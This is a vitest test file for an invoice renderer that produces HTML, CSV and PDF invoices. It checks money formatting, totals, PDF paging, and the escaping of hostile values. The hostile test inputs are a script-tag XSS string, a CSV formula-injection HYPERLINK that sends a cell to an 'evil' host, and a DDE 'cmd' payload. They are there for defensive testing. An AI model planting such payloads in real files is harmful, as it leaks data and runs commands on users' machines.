/** Invoices as people read them: HTML (escaped), CSV (adds up), PDF (a real PDF saying the same). */
import { inflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { InvoiceView } from './billing-service.ts';
import { dollars, type InvoiceContext, invoiceCsv, invoiceHtml, invoicePdf } from './invoice-render.ts';

const SCRIPT = '<script>alert("x")</script>';

function view(overrides: Partial<InvoiceView> = {}, issued = true): InvoiceView {
  const lines = [
    {
      position: 0,
      projectId: 'proj_x',
      model: 'gpt-4o',
      item: 'input',
      quantity: 1_234_567,
      quantityUnit: 'tokens',
      amountCents: 309,
    },
    {
      position: 1,
      projectId: 'proj_x',
      model: 'gpt-4o',
      item: 'output',
      quantity: 2000,
      quantityUnit: 'tokens',
      amountCents: 2,
    },
    {
      position: 2,
      projectId: 'proj_y',
      model: 'm<b>',
      item: 'images',
      quantity: 3,
      quantityUnit: 'images',
      amountCents: 123_456,
    },
    {
      position: 3,
      projectId: '',
      model: '',
      item: 'units',
      quantity: 0,
      quantityUnit: 'units',
      amountCents: 1,
    },
  ];
  const subtotalCents = lines.reduce((s, l) => s + l.amountCents, 0);
  return {
    invoice: issued
      ? {
          id: 'inv_1',
          organizationId: 'org_1',
          number: 'KP-203101-0042',
          periodStart: new Date(Date.UTC(2031, 0, 1)),
          periodEnd: new Date(Date.UTC(2031, 1, 1)),
          status: 'open',
          currency: 'USD',
          subtotalCents,
          creditsCents: 250,
          totalCents: subtotalCents - 250,
          billTo: {
            name: 'Acme & "Sons" <Ltd>',
            email: 'billing@acme.test',
            address: ['1 Main St', "O'Hare <2>"],
            tax_id: 'EU123',
          },
          issuedAt: new Date(Date.UTC(2031, 1, 1, 2)),
          dueAt: new Date(Date.UTC(2031, 1, 15, 2)),
          paidAt: null,
          voidedAt: null,
        }
      : null,
    lines,
    amounts: {
      lines: lines.map(({ position: _, ...l }) => l),
      subtotalCents,
      roundingCents: 0,
      creditsCents: 250,
      totalCents: subtotalCents - 250,
    },
    periodStart: Date.UTC(2031, 0, 1),
    periodEnd: Date.UTC(2031, 1, 1),
    ...overrides,
  };
}

const context: InvoiceContext = {
  issuer: 'Keyport Hosting <ops@keyport.test>',
  timeZone: 'UTC',
  projectNames: new Map([
    ['proj_x', SCRIPT],
    ['proj_y', 'Research, "alpha"'],
  ]),
  organizationName: 'Acme org',
};

/** A CSV parser good enough for RFC 4180 quoting. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The text a PDF shows: every TJ/Tj string of every (inflated) content stream, one per operator. */
function pdfTexts(pdf: Buffer): string[] {
  const raw = pdf.toString('latin1');
  const texts: string[] = [];
  const streams = /stream\r?\n/g;
  for (let m = streams.exec(raw); m; m = streams.exec(raw)) {
    const start = m.index + m[0].length;
    const end = raw.indexOf('endstream', start);
    let content: string;
    try {
      content = inflateSync(pdf.subarray(start, end)).toString('latin1');
    } catch {
      continue; // not a FlateDecode content stream (fonts, images)
    }
    for (const op of content.matchAll(/\[([^\]]*)\]\s*TJ/g)) {
      const hex = [...op[1]!.matchAll(/<([0-9a-fA-F]*)>/g)].map((h) => h[1]).join('');
      texts.push(Buffer.from(hex, 'hex').toString('latin1'));
    }
  }
  return texts;
}

describe('dollars', () => {
  it('prints integer cents as dollars', () => {
    expect(dollars(0)).toBe('$0.00');
    expect(dollars(5)).toBe('$0.05');
    expect(dollars(100)).toBe('$1.00');
    expect(dollars(123_456_789)).toBe('$1,234,567.89');
    expect(dollars(-250)).toBe('-$2.50');
    expect(dollars(-5)).toBe('-$0.05');
  });
});

describe('invoiceHtml', () => {
  it('escapes everything taken from data: project names, models, bill-to, issuer', () => {
    const html = invoiceHtml(view(), context);
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<b>');
    expect(html).not.toContain('<Ltd>');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('m&lt;b&gt;');
    expect(html).toContain('Acme &amp; &quot;Sons&quot; &lt;Ltd&gt;');
    expect(html).toContain('O&#39;Hare &lt;2&gt;');
    expect(html).toContain('Keyport Hosting &lt;ops@keyport.test&gt;');
    // The only tags are the template's.
    const tags = new Set([...html.matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase()));
    expect([...tags].sort()).toEqual(
      [
        'body',
        'br',
        'div',
        'h1',
        'head',
        'html',
        'meta',
        'strong',
        'style',
        'table',
        'tbody',
        'td',
        'th',
        'thead',
        'title',
        'tr',
      ].sort(),
    );
  });

  it('prints the number, period, lines and totals in dollars', () => {
    const v = view();
    const html = invoiceHtml(v, context);
    expect(html).toContain('<title>Invoice KP-203101-0042</title>');
    expect(html).toContain('2031-01-01 – 2031-01-31 (UTC)');
    expect(html).toContain('1,234,567 tokens');
    expect(html).toContain('$3.09');
    expect(html).toContain('$1,234.56');
    expect(html).toContain('(no project)');
    expect(html).toContain('(no model)');
    expect(html).toContain(`>${dollars(v.amounts.subtotalCents)}<`);
    expect(html).toContain('>-$2.50<');
    expect(html).toContain(`>${dollars(v.amounts.totalCents)}<`);
    expect(html).toContain('EU123');
  });

  it('a draft is the upcoming invoice; no usage says so', () => {
    const html = invoiceHtml(
      view(
        {
          lines: [],
          amounts: { lines: [], subtotalCents: 0, roundingCents: 0, creditsCents: 0, totalCents: 0 },
        },
        false,
      ),
      {
        ...context,
        timeZone: 'Asia/Kolkata',
      },
    );
    expect(html).toContain('Upcoming invoice (January 2031, so far)');
    expect(html).toContain('No usage in this period.');
    expect(html).toContain('Acme org'); // no bill-to details: the organization's name
  });
});

describe('invoiceCsv', () => {
  it('one row per line, quoted where needed; the lines sum to the subtotal, and the totals add up', () => {
    const v = view();
    const rows = parseCsv(invoiceCsv(v, context));
    expect(rows[0]).toEqual([
      'project_id',
      'project',
      'model',
      'item',
      'quantity',
      'quantity_unit',
      'amount_usd',
    ]);
    const body = rows.slice(1, 1 + v.lines.length);
    expect(body.map((r) => r.slice(0, 6))).toEqual([
      ['proj_x', SCRIPT, 'gpt-4o', 'input', '1234567', 'tokens'],
      ['proj_x', SCRIPT, 'gpt-4o', 'output', '2000', 'tokens'],
      ['proj_y', 'Research, "alpha"', 'm<b>', 'images', '3', 'images'],
      ['', '', '', 'units', '0', 'units'],
    ]);
    const toCents = (usd: string) => {
      expect(usd).toMatch(/^-?\d+\.\d{2}$/);
      return Math.round(Number(usd) * 100);
    };
    const lineCents = body.map((r) => toCents(r[6]!));
    expect(lineCents).toEqual(v.lines.map((l) => l.amountCents));
    const [subtotal, credits, due] = rows.slice(1 + v.lines.length);
    expect(subtotal!.slice(3, 4)).toEqual(['subtotal']);
    expect(credits!.slice(3, 4)).toEqual(['credits applied']);
    expect(due!.slice(3, 4)).toEqual(['amount due']);
    expect(toCents(subtotal![6]!)).toBe(lineCents.reduce((s, c) => s + c, 0));
    expect(toCents(credits![6]!)).toBe(-250);
    expect(toCents(subtotal![6]!) + toCents(credits![6]!)).toBe(toCents(due![6]!));
    expect(rows).toHaveLength(1 + v.lines.length + 3);
  });

  it('shows what the lines’ rounding added or took away as a row of its own, when there is any', () => {
    const v = view();
    const rounded = {
      ...v,
      amounts: { ...v.amounts, roundingCents: -1, totalCents: v.amounts.totalCents - 1 },
    };
    const rows = parseCsv(invoiceCsv(rounded, context)).slice(1 + v.lines.length);
    const usd = (cents: number) => (cents / 100).toFixed(2);
    expect(rows.map((r) => [r[3], r[6]])).toEqual([
      ['subtotal', usd(v.amounts.subtotalCents)],
      ['rounding', '-0.01'],
      ['credits applied', '-2.50'],
      ['amount due', usd(v.amounts.totalCents - 1)],
    ]);
    expect(invoiceHtml(rounded, context)).toContain('Rounding');
    expect(invoiceHtml(v, context)).not.toContain('Rounding');
  });

  it('a project or model named like a formula is text, not a formula; amounts stay numbers', () => {
    const hostile = view();
    hostile.lines[0] = { ...hostile.lines[0]!, model: '=HYPERLINK("http://evil/?"&A1,"x")' };
    const names: InvoiceContext = {
      ...context,
      projectNames: new Map([['proj_x', "=cmd|' /C calc'!A0"]]),
    };
    const rows = parseCsv(invoiceCsv(hostile, names));
    expect(rows[1]!.slice(1, 3)).toEqual(["'=cmd|' /C calc'!A0", `'=HYPERLINK("http://evil/?"&A1,"x")`]);
    const [, credits] = rows.slice(1 + hostile.lines.length);
    expect(credits![6]).toMatch(/^-\d+\.\d{2}$/);
  });
});

describe('invoicePdf', () => {
  it('is a PDF with the number, lines and totals', async () => {
    const v = view();
    const pdf = await invoicePdf(v, context);
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.toString('latin1').trimEnd().endsWith('%%EOF')).toBe(true);
    expect(pdf.length).toBeGreaterThan(1500);
    const texts = pdfTexts(pdf);
    expect(texts).toContain('Invoice KP-203101-0042');
    expect(texts).toContain(SCRIPT);
    expect(texts).toContain('$1,234.56');
    expect(texts).toContain(dollars(v.amounts.subtotalCents));
    expect(texts).toContain('-$2.50');
    expect(texts).toContain(dollars(v.amounts.totalCents));
    expect(texts).toContain('Status: open');
  });

  it('continues on new pages when the lines do not fit on one', async () => {
    const lines = Array.from({ length: 120 }, (_, i) => ({
      position: i,
      projectId: `proj_${i}`,
      model: 'gpt-4o',
      item: 'input',
      quantity: i,
      quantityUnit: 'tokens',
      amountCents: i,
    }));
    const total = lines.reduce((s, l) => s + l.amountCents, 0);
    const pdf = await invoicePdf(
      view({
        lines,
        amounts: { lines, subtotalCents: total, roundingCents: 0, creditsCents: 0, totalCents: total },
      }),
      context,
    );
    const pages = pdf.toString('latin1').match(/\/Type \/Page\b/g) ?? [];
    expect(pages.length).toBeGreaterThan(1);
    const texts = pdfTexts(pdf);
    expect(texts).toContain('proj_119');
    expect(texts).toContain(dollars(total));
  });
});
